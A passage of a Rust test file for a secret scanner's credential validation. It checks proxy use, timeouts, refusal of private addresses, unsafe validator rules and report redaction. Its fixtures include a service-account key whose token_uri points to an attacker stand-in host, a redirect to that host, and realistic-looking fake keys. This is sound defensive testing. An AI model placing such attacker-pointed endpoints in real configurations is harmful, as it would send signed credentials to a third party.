//! `scanner scan --validate` against a real HTTPS provider on loopback,
//! reached as `api.github.com` through an HTTP CONNECT proxy
//! (`HTTPS_PROXY`), trusting a CA made with `openssl` (`--ca-cert`). The
//! provider (`tests/validate/mock.py`) answers by token and logs each
//! request, so the tests count them.

mod common;

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};

use common::{scanner_in, token, Tree};

struct Mock {
    child: Child,
    port: u16,
}

impl Drop for Mock {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn sh(dir: &Path, script: &str) {
    let ok = Command::new("bash")
        .args(["-c", script])
        .current_dir(dir)
        .stderr(Stdio::null())
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success();
    assert!(ok, "{script}");
}

/// A CA and a certificate for api.github.com, oauth2.googleapis.com and auth.docker.io,
/// made by openssl.
fn certs(dir: &Path) {
    sh(
        dir,
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
           -keyout ca.key -out ca.pem -days 2 -subj /CN=scanner-test-ca && \
         openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
           -keyout srv.key -out srv.csr -subj /CN=api.github.com && \
         printf 'subjectAltName=DNS:api.github.com,DNS:oauth2.googleapis.com,DNS:auth.docker.io\\nbasicConstraints=CA:FALSE\\n' > ext && \
         openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial \
           -out srv.pem -days 2 -extfile ext",
    );
}

fn mock(dir: &Path, tokens: &BTreeMap<String, &str>) -> Mock {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/validate/mock.py");
    let mut child = Command::new("python3")
        .arg(script)
        .arg(dir)
        .arg(dir.join("requests.log"))
        .arg(serde_json::to_string(tokens).unwrap())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    Mock {
        child,
        port: line.trim().parse().unwrap(),
    }
}

/// The proxy variables the scanner reads, cleared for a test to set its own.
const PROXY_VARS: [&str; 8] = [
    "https_proxy",
    "HTTPS_PROXY",
    "all_proxy",
    "ALL_PROXY",
    "http_proxy",
    "HTTP_PROXY",
    "no_proxy",
    "NO_PROXY",
];

/// The scanner in `tree`, with no proxy variable and no `SSL_CERT_FILE`.
fn scanner_without_proxy(tree: &Tree) -> Command {
    let mut c = scanner_in(tree.path());
    for v in PROXY_VARS {
        c.env_remove(v);
    }
    c.env_remove("SSL_CERT_FILE");
    c
}

impl Mock {
    /// The scanner in `tree` with `args`, through this mock's proxy, trusting its CA.
    fn run(&self, tree: &Tree, certdir: &Path, args: &[&str]) -> std::process::Output {
        scanner_without_proxy(tree)
            .env("HTTPS_PROXY", self.url())
            .args(args)
            .arg("--ca-cert")
            .arg(certdir.join("ca.pem"))
            .output()
            .unwrap()
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }
}

fn requests(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_to_string(dir.join("requests.log"))
        .unwrap_or_default()
        .lines()
        .map(str::to_owned)
        .collect();
    v.sort();
    v
}

#[test]
fn validate_through_a_proxy_every_answer() {
    let tree = Tree::new();
    let certdir = tempfile::tempdir().unwrap();
    certs(certdir.path());
    let kinds = [
        "valid",
        "invalid",
        "error",
        "redirect",
        "big",
        "slow",
        "drip",
        "ratelimit",
        "ratelimit403",
        "forbidden",
    ];
    let mut tokens = BTreeMap::new();
    for (i, k) in kinds.iter().enumerate() {
        let t = token(100 + i as u32);
        tree.write(format!("{k}.env"), format!("GITHUB_TOKEN={t}\n"));
        tokens.insert(t, *k);
    }
    // A token whose CRC-32 fails cannot work: never sent.
    let mut broken = token(150);
    broken.replace_range(10..11, if &broken[10..11] == "a" { "b" } else { "a" });
    tree.write("broken.env", format!("GITHUB_TOKEN={broken}\n"));
    tokens.insert(broken, "broken");
    // The valid token twice more: still one request.
    let valid = tokens
        .iter()
        .find(|(_, k)| **k == "valid")
        .unwrap()
        .0
        .clone();
    tree.write("copy1.env", format!("T={valid}\n"));
    tree.write("copy2.env", format!("T={valid}\n"));
    let m = mock(certdir.path(), &tokens);
    let out = m.run(
        &tree,
        certdir.path(),
        &[
            "scan",
            "--validate",
            "--validation-timeout",
            "2",
            "--format",
            "json",
            ".",
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    for t in tokens.keys() {
        assert!(!stdout.contains(t.as_str()), "a secret in the report");
    }
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("ghp_"),
        "a secret on stderr"
    );
    let report: Vec<serde_json::Value> = serde_json::from_str(&stdout).unwrap();
    let by_file: BTreeMap<String, &serde_json::Value> = report
        .iter()
        .map(|f| (f["path"].as_str().unwrap().to_owned(), &f["validation"]))
        .collect();
    let v = |file: &str| by_file[&format!("./{file}.env")];
    assert_eq!(v("valid")["status"], "valid");
    assert_eq!(v("valid")["http_status"], 200);
    assert_eq!(
        v("valid")["identity"],
        serde_json::json!({"login": "octocat", "scopes": "repo, gist"})
    );
    assert!(v("valid")["checked_at"].as_str().unwrap().ends_with('Z'));
    assert_eq!(v("copy1"), v("valid"));
    assert_eq!(v("copy2"), v("valid"));
    assert_eq!(v("invalid")["status"], "invalid");
    assert_eq!(v("invalid")["http_status"], 401);
    assert_eq!(v("error")["status"], "unknown");
    assert_eq!(v("error")["http_status"], 500);
    // The redirect is an answer, not followed: nothing reaches evil.example.
    assert_eq!(v("redirect")["status"], "unknown");
    assert_eq!(v("redirect")["http_status"], 302);
    // 10 MB: the first 64 KiB are read, which is no JSON document; no login then.
    assert_eq!(v("big")["status"], "valid");
    assert_eq!(v("big")["identity"], serde_json::json!({}));
    assert_eq!(v("slow")["status"], "unknown");
    assert_eq!(v("slow")["error"], "timed out");
    // A body that trickles past the timeout is the same timeout.
    assert_eq!(v("drip")["status"], "unknown");
    assert_eq!(v("drip")["error"], "timed out");
    assert_eq!(v("ratelimit")["status"], "valid");
    // GitHub's 403 past a rate limit says nothing of the token; a plain 403 refuses it.
    assert_eq!(v("ratelimit403")["status"], "valid");
    assert_eq!(v("forbidden")["status"], "invalid");
    assert_eq!(v("forbidden")["http_status"], 403);
    assert_eq!(v("broken")["status"], "offline_invalid");
    assert_eq!(v("broken")["reason"], "CRC-32 checksum does not match");
    let reqs = requests(certdir.path());
    let count = |what: &str| reqs.iter().filter(|l| *l == what).count();
    assert_eq!(count("valid"), 1, "{reqs:?}");
    assert_eq!(count("broken"), 0, "{reqs:?}");
    assert_eq!(count("ratelimit"), 2, "{reqs:?}");
    assert_eq!(count("ratelimit403"), 2, "{reqs:?}");
    assert_eq!(count("forbidden"), 1, "{reqs:?}");
    for k in ["invalid", "error", "redirect", "big", "slow", "drip"] {
        assert_eq!(count(k), 1, "{k}: {reqs:?}");
    }
    assert!(
        reqs.iter()
            .all(|l| !l.starts_with("CONNECT ") || l == "CONNECT api.github.com:443"),
        "{reqs:?}"
    );
}

/// A Google service-account key file: its key signs a JWT for its
/// `client_email`, posted to the fixed token endpoint (never to the file's
/// `token_uri`); the minted access token is not reported.
#[test]
fn a_google_service_account_key_is_exchanged_at_the_fixed_token_endpoint() {
    let tree = Tree::new();
    let certdir = tempfile::tempdir().unwrap();
    certs(certdir.path());
    sh(
        certdir.path(),
        "openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out sa.pem",
    );
    let pem = std::fs::read_to_string(certdir.path().join("sa.pem")).unwrap();
    let email = "deployer@billing-lscbzw-312215.iam.gserviceaccount.com";
    tree.write(
        "sa.json",
        format!(
            "{{\n  \"type\": \"service_account\",\n  \"project_id\": \"billing-lscbzw-312215\",\n  \"private_key\": \"{}\",\n  \"client_email\": \"{email}\",\n  \"token_uri\": \"https://evil.example/token\"\n}}\n",
            pem.replace('\n', "\\n")
        ),
    );
    let m = mock(certdir.path(), &BTreeMap::new());
    let out = m.run(
        &tree,
        certdir.path(),
        &["scan", "--validate", "--format", "json", "."],
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(!stdout.contains("ya29.minted-token"), "{stdout}");
    let report: Vec<serde_json::Value> = serde_json::from_str(&stdout).unwrap();
    let f = report
        .iter()
        .find(|f| f["rule_id"] == "gcp-service-account-key")
        .unwrap_or_else(|| panic!("{stdout}"));
    assert_eq!(f["validation"]["status"], "valid", "{stdout}");
    assert_eq!(f["validation"]["http_status"], 200);
    assert_eq!(f["validation"]["identity"], serde_json::json!({}));
    assert_eq!(
        requests(certdir.path()),
        [
            "CONNECT oauth2.googleapis.com:443".to_string(),
            format!(
                "POST /token application/x-www-form-urlencoded \
                 urn:ietf:params:oauth:grant-type:jwt-bearer {email}"
            )
        ]
    );
}

#[test]
fn a_provider_host_on_a_private_address_is_refused() {
    let tree = Tree::new();
    tree.write(
        "rules.toml",
        "[[rules]]\nid = \"inhouse\"\nregex = '''\\b(inh_[a-z0-9]{24})\\b'''\nsecretGroup = 1\nkeywords = [\"inh_\"]\n\n  [rules.validate]\n  docs = \"https://example.com/docs\"\n  url = \"https://10.0.0.1/whoami\"\n  headers = { Authorization = \"Bearer {{secret}}\" }\n",
    );
    tree.write("a.env", "K=inh_q8rk2vxz1lmn4pt7wy0a3b5c\n");
    let out = scanner_without_proxy(&tree)
        .args([
            "scan",
            "--rules",
            "rules.toml",
            "--validate",
            "--format",
            "jsonl",
            "a.env",
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let f: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(f["validation"]["status"], "unknown");
    let error = f["validation"]["error"].as_str().unwrap();
    assert!(
        error.contains("10.0.0.1 resolves to a non-public address 10.0.0.1: refused"),
        "{error}"
    );
    assert!(!error.contains("inh_q8rk"), "{error}");
}

#[test]
fn min_validity_filters_on_offline_evidence_without_a_request() {
    let tree = Tree::new();
    let good = token(7);
    // One changed character: the CRC-32 no longer matches.
    let mut bad = token(8);
    bad.replace_range(10..11, if &bad[10..11] == "a" { "b" } else { "a" });
    tree.write("good.env", format!("T={good}\n"));
    tree.write("bad.env", format!("T={bad}\n"));
    let paths = |args: &[&str]| -> (Option<i32>, Vec<String>) {
        let out = scanner_in(tree.path()).args(args).output().unwrap();
        let v: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
        (
            out.status.code(),
            v.iter()
                .map(|f| {
                    format!(
                        "{} {}",
                        f["path"].as_str().unwrap(),
                        f["validation"]["status"].as_str().unwrap()
                    )
                })
                .collect(),
        )
    };
    assert_eq!(
        paths(&["scan", "--format", "json", "."]),
        (
            Some(1),
            vec![
                "./bad.env offline_invalid".to_string(),
                "./good.env offline_valid".to_string()
            ]
        )
    );
    assert_eq!(
        paths(&[
            "scan",
            "--format",
            "json",
            "--min-validity",
            "offline_valid",
            "."
        ]),
        (Some(1), vec!["./good.env offline_valid".to_string()])
    );
    // Exit codes do not change with validity: findings mean 1.
    assert_eq!(
        paths(&["scan", "--format", "json", "--only-valid", "."]),
        (Some(1), vec![])
    );
}

#[test]
fn validate_a_redacted_report_reads_secrets_back_by_fingerprint() {
    let tree = Tree::new();
    let certdir = tempfile::tempdir().unwrap();
    certs(certdir.path());
    let (valid, invalid, moved) = (token(201), token(202), token(203));
    tree.write("a.env", format!("T={valid}\n"));
    tree.write("b.env", format!("T={invalid}\n"));
    tree.write("c.env", format!("T={moved}\n"));
    let tokens = BTreeMap::from([
        (valid.clone(), "valid"),
        (invalid.clone(), "invalid"),
        (moved.clone(), "valid"),
    ]);
    let scan = scanner_in(tree.path())
        .args(["scan", "--format", "json", "."])
        .output()
        .unwrap();
    assert_eq!(scan.status.code(), Some(1));
    tree.write("report.json", &scan.stdout);
    // c.env changes after the scan: its secret is not where the report says.
    tree.write("c.env", format!("# moved\nT={moved}\n"));
    let m = mock(certdir.path(), &tokens);
    let out = m.run(&tree, certdir.path(), &["validate", "report.json"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        !stdout.contains(&valid) && !stdout.contains(&moved),
        "a secret written"
    );
    let report: Vec<serde_json::Value> = serde_json::from_str(&stdout).unwrap();
    let got: Vec<(String, String, String)> = report
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_owned(),
                f["secret"].as_str().unwrap().to_owned(),
                f["validation"]["status"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("./a.env".into(), "ghp_…".into(), "valid".into()),
            ("./b.env".into(), "ghp_…".into(), "invalid".into()),
            ("./c.env".into(), "ghp_…".into(), "unknown".into()),
        ]
    );
    assert_eq!(
        report[2]["validation"]["reason"],
        "./c.env no longer holds the secret at offset 2: the fingerprint differs"
    );
    assert_eq!(
        requests(certdir.path())
            .iter()
            .filter(|l| !l.starts_with("CONNECT"))
            .count(),
        2
    );
}

#[test]
fn at_most_two_requests_at_a_time_to_one_host() {
    let tree = Tree::new();
    let certdir = tempfile::tempdir().unwrap();
    certs(certdir.path());
    let mut tokens = BTreeMap::new();
    for i in 0..10 {
        let t = token(300 + i);
        tree.write(format!("f{i}.env"), format!("T={t}\n"));
        tokens.insert(t, "delay200");
    }
    let m = mock(certdir.path(), &tokens);
    let started = std::time::Instant::now();
    let out = m.run(
        &tree,
        certdir.path(),
        &[
            "scan",
            "--validate",
            "--validation-jobs",
            "8",
            "--format",
            "jsonl",
            ".",
        ],
    );
    let took = started.elapsed();
    assert_eq!(out.status.code(), Some(1));
    let valid = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .filter(|l| l.contains(r#""status":"valid""#))
        .count();
    assert_eq!(valid, 10);
    let most = std::fs::read_to_string(certdir.path().join("requests.log.most")).unwrap();
    assert_eq!(most, "2", "requests in flight at once at api.github.com");
    // 10 requests of 200 ms, 2 at a time: at least 5 rounds.
    assert!(took >= std::time::Duration::from_millis(1000), "{took:?}");
}

/// Without `--validate` a scan makes no socket at all (strace is in CI's tools, .ci/run).
#[test]
fn a_scan_without_validate_opens_no_socket() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(400)));
    let log = tree.join("strace.log");
    let status = Command::new("strace")
        .args(["-f", "-e", "trace=socket,connect", "-o"])
        .arg(&log)
        .arg(common::BIN)
        .args(["scan", "--format", "json", "a.env"])
        .current_dir(tree.path())
        .stdout(Stdio::null())
        .status()
        .expect("strace (apt-get install strace)");
    assert_eq!(status.code(), Some(1));
    let calls: Vec<String> = std::fs::read_to_string(&log)
        .unwrap()
        .lines()
        .filter(|l| l.contains("socket(") || l.contains("connect("))
        .map(str::to_owned)
        .collect();
    assert_eq!(calls, Vec::<String>::new());
}

/// `scanner rules check` refuses an unsafe validator, naming the file and rule.
#[test]
fn rules_check_refuses_an_unsafe_validator() {
    let tree = Tree::new();
    for (name, table, want) in [
        (
            "host.toml",
            r#"url = "https://{{secret}}.example.com/""#,
            "the host must be a fixed name",
        ),
        (
            "http.toml",
            r#"url = "http://api.example.com/""#,
            "must start with https://",
        ),
        (
            "port.toml",
            r#"url = "https://api.example.com:99999/""#,
            "the port must be a number from 1 to 65535",
        ),
        (
            "delete.toml",
            "method = \"DELETE\"\n  url = \"https://api.example.com/\"",
            "must be \"GET\"",
        ),
    ] {
        tree.write(
            name,
            format!(
                "[[rules]]\nid = \"inhouse\"\nregex = '''\\b(inh_[a-z0-9]{{24}})\\b'''\nkeywords = [\"inh_\"]\n\n  [rules.validate]\n  docs = \"https://example.com/docs\"\n  {table}\n"
            ),
        );
        let out = scanner_in(tree.path())
            .args(["rules", "check", name])
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {err}");
        assert!(
            err.contains(name) && err.contains("inhouse") && err.contains(want),
            "{name}: {err}"
        );
    }
}

/// The proxy is the one curl would take for `https://`: `https_proxy` before
/// `ALL_PROXY`; `NO_PROXY` names a domain and its subdomains, spaces
/// allowed. A proxy setting that cannot be honoured (a SOCKS proxy, no
/// URL) stops the run, naming the variable and not its password: the
/// secret never goes around the proxy.
#[test]
fn validation_takes_the_proxy_curl_would_and_never_goes_around_it() {
    let tree = Tree::new();
    let certdir = tempfile::tempdir().unwrap();
    certs(certdir.path());
    let t = token(500);
    tree.write("a.env", format!("T={t}\n"));
    let m = mock(certdir.path(), &BTreeMap::from([(t, "valid")]));
    let scan = |vars: &[(&str, &str)]| {
        let mut c = scanner_without_proxy(&tree);
        c.args([
            "scan",
            "--validate",
            "--format",
            "jsonl",
            "a.env",
            "--ca-cert",
        ])
        .arg(certdir.path().join("ca.pem"));
        for (k, v) in vars {
            c.env(k, v);
        }
        let out = c.output().unwrap();
        let status = serde_json::from_slice::<serde_json::Value>(&out.stdout)
            .map(|f| f["validation"]["status"].as_str().unwrap().to_owned())
            .unwrap_or_default();
        (
            out.status.code(),
            status,
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let summary = "scanned 1 file (43 B)";
    let (code, status, stderr) = scan(&[
        ("https_proxy", &m.url()),
        ("ALL_PROXY", "http://127.0.0.1:1"),
    ]);
    assert_eq!((code, status.as_str()), (Some(1), "valid"), "{stderr}");
    assert!(stderr.starts_with(summary), "{stderr}");
    assert_eq!(
        requests(certdir.path()),
        ["CONNECT api.github.com:443", "valid"]
    );
    for (var, value, want) in [
        (
            "HTTPS_PROXY",
            "socks5://me:hunter2@127.0.0.1:1080",
            "scanner: error: HTTPS_PROXY names a Socks5 proxy: validation speaks only to an \
             HTTP CONNECT proxy (http://host:port); set one, or unset HTTPS_PROXY\n",
        ),
        (
            "all_proxy",
            "http://me:hunter2@[::1",
            "scanner: error: all_proxy is not a proxy URL \
             (http://[user:password@]host:port): fix or unset it\n",
        ),
    ] {
        assert_eq!(
            scan(&[(var, value)]),
            (Some(2), String::new(), want.to_owned()),
            "{var}={value}"
        );
    }
    // NO_PROXY's scanner-test.invalid covers its api. host: no CONNECT then,
    // and the name (reserved, RFC 6761) resolves nowhere.
    tree.write(
        "rules.toml",
        "[[rules]]\nid = \"inhouse\"\nregex = '''\\b(inh_[a-z0-9]{24})\\b'''\nsecretGroup = 1\nkeywords = [\"inh_\"]\n\n  [rules.validate]\n  docs = \"https://example.com/docs\"\n  url = \"https://api.scanner-test.invalid/whoami\"\n  headers = { Authorization = \"Bearer {{secret}}\" }\n",
    );
    tree.write("b.env", "K=inh_q8rk2vxz1lmn4pt7wy0a3b5c\n");
    // (The tunnels counted are all so far: the second run adds none.)
    for (no_proxy, tunnels) in [("localhost", 1), ("localhost, scanner-test.invalid", 1)] {
        let out = scanner_without_proxy(&tree)
            .env("HTTPS_PROXY", m.url())
            .env("NO_PROXY", no_proxy)
            .args(["scan", "--rules", "rules.toml", "--validate", "b.env"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{no_proxy}");
        let made = requests(certdir.path())
            .iter()
            .filter(|l| *l == "CONNECT api.scanner-test.invalid:443")
            .count();
        assert_eq!(made, tunnels, "NO_PROXY={no_proxy}");
    }
}

/// `scanner validate` without the rules the scan used: the report's old
/// answer is not written again as if checked now; a warning says what to
/// pass.
#[test]
fn validate_without_the_scans_rules_says_so_and_does_not_reuse_the_old_answer() {
    let tree = Tree::new();
    tree.write(
        "rules.toml",
        "[[rules]]\nid = \"inhouse\"\nregex = '''\\b(inh_[a-z0-9]{24})\\b'''\nsecretGroup = 1\nkeywords = [\"inh_\"]\n\n  [rules.validate]\n  docs = \"https://example.com/docs\"\n  url = \"https://10.0.0.1/whoami\"\n  headers = { Authorization = \"Bearer {{secret}}\" }\n",
    );
    tree.write("a.env", "K=inh_q8rk2vxz1lmn4pt7wy0a3b5c\n");
    let scan = scanner_without_proxy(&tree)
        .args(["scan", "--rules", "rules.toml", "--validate"])
        .args(["--format", "json", "-o", "report.json", "a.env"])
        .output()
        .unwrap();
    assert_eq!(scan.status.code(), Some(1));
    let validation = |out: &std::process::Output| {
        let v: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
        let v = &v[0]["validation"];
        (
            v["status"].as_str().unwrap().to_owned(),
            v["reason"].as_str().unwrap().to_owned(),
        )
    };
    let out = scanner_without_proxy(&tree)
        .args(["validate", "report.json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        validation(&out),
        (
            "not_checked".to_owned(),
            "the rule is not in the rule set (--rules, --extra-rules)".to_owned()
        )
    );
    assert_eq!(
        String::from_utf8(out.stderr).unwrap(),
        "scanner: warning: report.json: rule inhouse is not in the rule set: its 1 finding \
         not checked (pass the scan's rules with --rules or --extra-rules)\n"
    );
    let out = scanner_without_proxy(&tree)
        .args(["validate", "--rules", "rules.toml", "report.json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        validation(&out),
        ("unknown".to_owned(), "no answer".to_owned())
    );
    // Checked now: no word of a missing rule; why the check got no answer.
    assert_eq!(
        String::from_utf8(out.stderr).unwrap(),
        "scanner: warning: validation: 1 of 1 check got no answer, their findings are \
         `unknown` (e.g. io: 10.0.0.1 resolves to a non-public address 10.0.0.1: refused); \
         check the network, the proxy (HTTPS_PROXY) and the CA (--ca-cert)\n"
    );
}

/// A CA file that cannot be used stops `--validate` before any request, and
/// the message says where the file came from: `SSL_CERT_FILE` may be set by
/// an image the user never looked at.
#[test]
fn an_unusable_ca_file_is_named_with_where_it_came_from() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(600)));
    tree.write("notes.txt", "no certificate here\n");
    // SSL_CERT_FILE names a missing file; --ca-cert, when given, wins.
    for (args, want) in [
        (
            vec![],
            format!(
                "scanner: error: cannot read CA file {} (SSL_CERT_FILE): No such file or \
                 directory (os error 2)\n",
                tree.join("missing.pem").display()
            ),
        ),
        (
            vec!["--ca-cert", "notes.txt"],
            "scanner: error: CA file notes.txt (--ca-cert): no PEM certificate in it\n".into(),
        ),
    ] {
        let out = scanner_without_proxy(&tree)
            .env("SSL_CERT_FILE", tree.join("missing.pem"))
            .args(["scan", "--validate", "a.env"])
            .args(&args)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert_eq!(String::from_utf8(out.stderr).unwrap(), want);
        assert_eq!(out.stdout, b"");
    }
}

/// A temporary AWS key (ASIA) works only with its session token, which the
/// pair rule does not capture: STS would answer 403 InvalidClientTokenId
/// whether it works or not, so it is not asked, and the answer says why.
/// A long-lived key (AKIA) is sent (here to a proxy that refuses).
#[test]
fn a_temporary_aws_key_is_not_sent_without_its_session_token() {
    let tree = Tree::new();
    tree.write(
        "creds.csv",
        "id,key,secret\n\
         ci,ASIAY34FZKBOKMUTVV7A,gYYvo7eHB03jczPAdOLtrl6I2f/5h67lxbpewL0z\n\
         deploy,AKIA2JCOYRCBFBVJM7PV,NkijPo1jH0BmuJlL5T0AnwATZnMBbgIck0gQeure\n",
    );
    let out = scanner_without_proxy(&tree)
        .env("HTTPS_PROXY", "http://127.0.0.1:1")
        .args(["scan", "--validate", "--format", "jsonl", "creds.csv"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let got: Vec<(u64, String, String, String)> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|f| f["rule_id"] == "aws-access-key-pair")
        .map(|f| {
            let v = &f["validation"];
            (
                f["line"].as_u64().unwrap(),
                v["status"].as_str().unwrap().to_owned(),
                v["reason"].as_str().unwrap().to_owned(),
                v["error"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (
                2,
                "unknown".into(),
                "request not built".into(),
                "a temporary key id (ASIA) needs its session token, which the match does \
                 not hold"
                    .into()
            ),
            (
                3,
                "unknown".into(),
                "no answer".into(),
                "io: Connection refused (os error 111)".into()
            ),
        ]
    );
    // The report says `unknown` of each; stderr says why, once.
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.lines().any(|l| l
            == "scanner: warning: validation: 1 of 2 checks got no answer, their findings are \
                `unknown` (e.g. io: Connection refused (os error 111)); check the network, the \
                proxy (HTTPS_PROXY) and the CA (--ca-cert)"),
        "{stderr}"
    );
}

/// `--validation-jobs` is a thread count: past 1024 it is refused, as
/// `--threads` is, instead of aborting when the threads run out (a million
/// did, "failed to set up alternative stack guard page"); 0 is no count.
/// `--validation-timeout` past an hour is refused too: u64::MAX panicked
/// each validation thread ("overflow when adding duration to instant") and
/// the scan then hung, waiting for the host slots the dead threads held.
#[test]
fn validation_jobs_and_timeout_out_of_range_are_refused() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(700)));
    for (args, flag, n, range) in [
        (
            ["scan", "--validate", "a.env"],
            "--validation-jobs <N>",
            "1000000",
            "1..=1024",
        ),
        (
            ["scan", "--validate", "a.env"],
            "--validation-jobs <N>",
            "0",
            "1..=1024",
        ),
        (
            ["validate", "--format", "jsonl"],
            "--validation-jobs <N>",
            "5000",
            "1..=1024",
        ),
        (
            ["scan", "--validate", "a.env"],
            "--validation-timeout <SECS>",
            "18446744073709551615",
            "1..=3600",
        ),
        (
            ["validate", "--format", "json"],
            "--validation-timeout <SECS>",
            "0",
            "1..=3600",
        ),
    ] {
        let name = flag.split(' ').next().unwrap();
        let out = scanner_without_proxy(&tree)
            .args(args)
            .args([name, n, "report.json"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?} {name} {n}");
        let stderr = String::from_utf8(out.stderr).unwrap();
        let want = format!("error: invalid value '{n}' for '{flag}': {n} is not in {range}");
        assert_eq!(stderr.lines().next(), Some(want.as_str()));
        assert_eq!(out.stdout, b"");
    }
}

/// A pair rule's answer is the pair's: one Docker Hub token beside two user
/// names is two checks, each finding with its own answer (one request
/// per pair, however many findings share it).
#[test]
fn a_token_beside_two_user_names_is_checked_with_each() {
    let tree = Tree::new();
    let certdir = tempfile::tempdir().unwrap();
    certs(certdir.path());
    let token = "dckr_pat_gI8y0Tez0SF_uqkgqfGvcWcKjZi";
    for (file, user) in [
        ("a.env", "acmebot"),
        ("b.env", "olduser"),
        ("c.env", "acmebot"),
    ] {
        tree.write(
            file,
            format!("DOCKERHUB_USERNAME={user}\nDOCKERHUB_TOKEN={token}\n"),
        );
    }
    // Docker's token service takes the pair as Basic auth: only acmebot's is accepted.
    let basic = |user: &str| {
        use base64::Engine as _;
        let pair = format!("{user}:{token}");
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(pair)
        )
    };
    let m = mock(
        certdir.path(),
        &BTreeMap::from([(basic("acmebot"), "valid"), (basic("olduser"), "stale")]),
    );
    let out = m.run(
        &tree,
        certdir.path(),
        &["scan", "--validate", "--format", "jsonl", "."],
    );
    assert_eq!(out.status.code(), Some(1));
    let got: Vec<(String, String)> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|f| f["rule_id"] == "dockerhub-pat-with-username")
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_owned(),
                f["validation"]["status"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("./a.env".into(), "valid".into()),
            ("./b.env".into(), "invalid".into()),
            ("./c.env".into(), "valid".into()),
        ]
    );
    let reqs = requests(certdir.path());
    assert!(
        reqs.iter()
            .all(|l| !l.starts_with("CONNECT ") || l == "CONNECT auth.docker.io:443"),
        "{reqs:?}"
    );
    let asked: Vec<&String> = reqs.iter().filter(|l| !l.starts_with("CONNECT ")).collect();
    assert_eq!(asked, ["stale", "valid"]);
}

/// `scanner validate` does not read a secret back from inside an archive,
/// and says so: not "cannot read ./x.zip!inner.env back: entity not found",
/// as if the file had gone.
#[test]
fn validate_says_an_archive_member_is_not_read_back() {
    let tree = Tree::new();
    tree.write("inner.env", format!("T={}\n", token(800)));
    sh(tree.path(), "zip -q x.zip inner.env && rm inner.env");
    let scan = scanner_in(tree.path())
        .args(["scan", "--format", "json", "-o", "report.json", "."])
        .output()
        .unwrap();
    assert_eq!(scan.status.code(), Some(1));
    let out = scanner_without_proxy(&tree)
        .args(["validate", "report.json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report.len(), 1);
    assert_eq!(report[0]["path"], "./x.zip!inner.env");
    assert_eq!(report[0]["validation"]["status"], "unknown");
    assert_eq!(
        report[0]["validation"]["reason"],
        "./x.zip!inner.env is a member of the archive ./x.zip: the secret is not read back \
         from an archive"
    );
}

/// `scanner validate` of a SARIF, HTML or text report says which it is and
/// what it reads, not the JSON parser's complaint about line 1 ("not a
/// jsonl finding of scanner: EOF while parsing an object").
#[test]
fn validate_names_a_report_of_another_format() {
    let tree = Tree::new();
    tree.write("a.env", format!("T={}\n", token(900)));
    for (format, what) in [
        ("sarif", "a SARIF report"),
        ("html", "an HTML report"),
        ("text", "not JSON (a text report?)"),
    ] {
        let file = format!("report.{format}");
        let scan = scanner_in(tree.path())
            .args(["scan", "--format", format, "-o", &file, "a.env"])
            .output()
            .unwrap();
        assert_eq!(scan.status.code(), Some(1));
        let out = scanner_without_proxy(&tree)
            .args(["validate", &file])
            .output()
